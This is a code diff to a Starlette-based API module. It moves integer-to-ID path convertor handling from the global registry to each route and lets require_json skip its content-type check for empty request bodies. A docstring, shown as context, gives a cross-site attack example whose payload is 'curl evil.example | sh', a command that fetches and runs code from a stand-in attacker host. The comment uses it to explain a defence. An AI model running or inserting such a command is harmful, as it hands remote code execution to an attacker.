@@ -14,7 +14,7 @@ from dataclasses import dataclass, field
 from typing import Any, Literal
 
 import msgspec
-from starlette.convertors import CONVERTOR_TYPES, IntegerConvertor
+from starlette.convertors import IntegerConvertor
 from starlette.requests import Request
 from starlette.responses import HTMLResponse, Response
 from starlette.routing import BaseRoute, Route
@@ -95,8 +95,6 @@ class ApiRoute(Route):
     ) -> None:
         self.operations = dict(operations)
         self.group = api_group(path)
-        CONVERTOR_TYPES.setdefault("id", IdConvertor())
-        path = path.replace(":int}", ":id}")
 
         async def dispatch(request: Request) -> Response:
             method = "GET" if request.method == "HEAD" else request.method
@@ -109,6 +107,10 @@ class ApiRoute(Route):
             return await handler(request)
 
         super().__init__(path, dispatch, methods=list(operations), name=name)
+        self.param_convertors = {
+            key: IdConvertor() if isinstance(convertor, IntegerConvertor) else convertor
+            for key, convertor in self.param_convertors.items()
+        }
 
 
 def require_json(request: Request) -> None:
@@ -119,6 +121,8 @@ def require_json(request: Request) -> None:
     site from writing through a visitor's browser (a spell with pattern ``.*`` and a fix of
     ``curl evil.example | sh``, when API_TOKEN is not set).
     """
+    if request.headers.get("content-length") == "0":
+        return  # nothing to write: the handler says what is missing
     media_type = request.headers.get("content-type", "").partition(";")[0].strip().lower()
     if media_type != JSON and not (
         media_type.startswith("application/") and media_type.endswith("+json")
